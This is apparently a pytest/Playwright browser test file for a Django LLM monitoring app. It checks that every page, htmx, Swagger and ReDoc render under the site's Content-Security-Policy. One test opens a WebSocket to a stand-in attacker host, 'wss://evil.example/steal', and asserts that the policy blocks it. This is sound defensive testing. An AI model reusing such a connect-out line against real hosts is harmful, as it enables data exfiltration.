"""Every page under the Content-Security-Policy in a real browser: nothing is refused.

Chromium reports a refused script, style, image or connection both as a console error and as a
``securitypolicyviolation`` event; the test records both, on pages filled with real data
(a monitoring pass and a benchmark against the simulator, so the charts draw).
"""

import threading

import pytest
from django.db import connection
from playwright.sync_api import expect

from alerts.models import AlertRule
from benchmarks import engine
from benchmarks.models import BenchmarkRun
from monitoring import services
from monitoring.models import MonitoringRun
from tests.browser.helpers import log_in
from tests.factories import make_account, make_model

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

RECORD_VIOLATIONS = """
window.__csp = [];
document.addEventListener("securitypolicyviolation", (e) => {
  window.__csp.push(`${e.violatedDirective} blocked ${e.blockedURI || "inline"}`);
});
"""


def in_thread(work) -> None:
    """Run ORM work that starts its own event loop outside Playwright's thread."""

    def run():
        try:
            work()
        finally:
            connection.close()

    worker = threading.Thread(target=run)
    worker.start()
    worker.join(timeout=60)


@pytest.fixture
def filled(llmsim, sync_tasks):
    account = make_account(
        display_name="Simulator", credentials={"base_url": f"{llmsim}/v1", "api_key": "sk-test"}
    )
    fast = make_model(account, model_id="sim/ttft=20/itl=2/n=5")
    make_model(account, model_id="sim/status=500")
    run = MonitoringRun.objects.create()
    in_thread(lambda: services.start_pass(run_id=run.id))
    bench = BenchmarkRun.objects.create(
        name="CSP check",
        prompt_pack="health_check",
        num_runs=2,
        max_tokens=10,
        warmup_runs=0,
        concurrency=1,
        model_ids=[str(fast.id)],
    )
    in_thread(lambda: engine.execute(bench.id))
    AlertRule.objects.create(name="Anything down", rule_type="any_model_down")
    return {"model": fast, "bench": bench, "account": account}


def visit(page, url: str) -> list[str]:
    response = page.goto(url)
    assert response.status == 200, url
    page.wait_for_load_state("networkidle")
    return page.evaluate("window.__csp")


def test_every_page_renders_without_a_csp_violation(page, live_server, filled):
    base = live_server.url
    page.add_init_script(RECORD_VIOLATIONS)
    log_in(page, base, username="carol", superuser=True)
    model, bench, account = filled["model"], filled["bench"], filled["account"]
    paths = [
        "/dashboard",
        "/providers",
        "/models",
        "/benchmarks",
        f"/benchmarks/{bench.id}",
        "/monitoring",
        f"/monitoring/models/{model.id}",
        "/alerts",
        "/settings",
        "/admin/",
        "/admin/arguslm/auditevent/",
        f"/admin/providers/provideraccount/{account.id}/change/",
    ]
    # The admin's pages link no favicon, so Chromium asks for /favicon.ico (404): not a CSP issue.
    page.route("**/favicon.ico", lambda route: route.fulfill(status=204))
    violations = {}
    for path in paths:
        found = visit(page, base + path)
        if found:
            violations[path] = found
        if path == "/dashboard":
            expect(page.locator("canvas").first).to_be_visible()  # Chart.js drew under CSP
    assert violations == {}
    assert page.errors == []


def test_websockets_may_reach_this_site_only(page, live_server):
    """connect-src 'self': the benchmark stream's WebSocket (same origin) may connect, any
    other host is refused. (live_server speaks WSGI, so the same-origin handshake itself fails
    with a 404; what matters is that the policy lets it try.)"""
    page.add_init_script(RECORD_VIOLATIONS)
    log_in(page, live_server.url, username="carol")
    closed = page.evaluate(
        """() => new Promise(resolve => {
            const url = location.origin.replace(/^http/, "ws") + "/api/v1/benchmarks/x/stream";
            const socket = new WebSocket(url);
            socket.onclose = () => resolve(url);
        })"""
    )
    assert closed.startswith("ws://") and page.evaluate("window.__csp") == []
    violations = page.evaluate(
        """() => new Promise(resolve => {
            const done = () => resolve(window.__csp);
            document.addEventListener("securitypolicyviolation", () => setTimeout(done, 0));
            setTimeout(done, 3000);
            try { new WebSocket("wss://evil.example/steal"); } catch (e) {}
        })"""
    )
    assert violations == ["connect-src blocked wss://evil.example/steal"]


def test_htmx_and_its_indicator_style_work_under_the_policy(page, live_server, filled):
    base = live_server.url
    page.add_init_script(RECORD_VIOLATIONS)
    log_in(page, base, username="carol", superuser=True)
    visit(page, f"{base}/models")
    # htmx injected its indicator <style> (allowed by hash) and swaps rows in place.
    styles = page.evaluate("[...document.querySelectorAll('style')].map(s => s.textContent)")
    assert any("htmx-indicator" in css for css in styles)
    switch = page.get_by_test_id("monitor-toggle").first
    before = switch.get_attribute("aria-checked")
    switch.click()
    after = "false" if before == "true" else "true"
    expect(page.get_by_test_id("monitor-toggle").first).to_have_attribute("aria-checked", after)
    assert page.evaluate("window.__csp") == []
    assert page.errors == []


def test_swagger_ui_renders_the_api_under_its_policy(page, live_server):
    page.add_init_script(RECORD_VIOLATIONS)
    response = page.goto(f"{live_server.url}/docs")
    assert (
        "'unsafe-inline'"
        not in response.headers["content-security-policy"].split("script-src")[1].split(";")[0]
    )
    expect(page.locator(".swagger-ui .info .title")).to_contain_text("ArgusLM API")
    expect(page.locator(".opblock").first).to_be_visible()
    page.wait_for_load_state("networkidle")
    assert page.evaluate("window.__csp") == []
    assert page.errors == []


def test_redoc_renders_and_only_its_third_party_requests_are_refused(page, live_server):
    """drf-spectacular's ReDoc template links Google Fonts and ReDoc shows a logo from
    cdn.redoc.ly: the policy refuses both on purpose (no third-party requests; local fonts)."""
    page.add_init_script(RECORD_VIOLATIONS)
    page.route("**/favicon.ico", lambda route: route.fulfill(status=204))
    page.goto(f"{live_server.url}/redoc")
    expect(page.get_by_role("heading", name="ArgusLM API")).to_be_visible()
    page.wait_for_load_state("networkidle")
    blocked = [v.split(" blocked ")[1] for v in page.evaluate("window.__csp")]
    assert blocked, "expected the Google Fonts stylesheet to be refused"
    assert all(
        url.startswith(("https://fonts.googleapis.com/", "https://cdn.redoc.ly/"))
        for url in blocked
    ), blocked
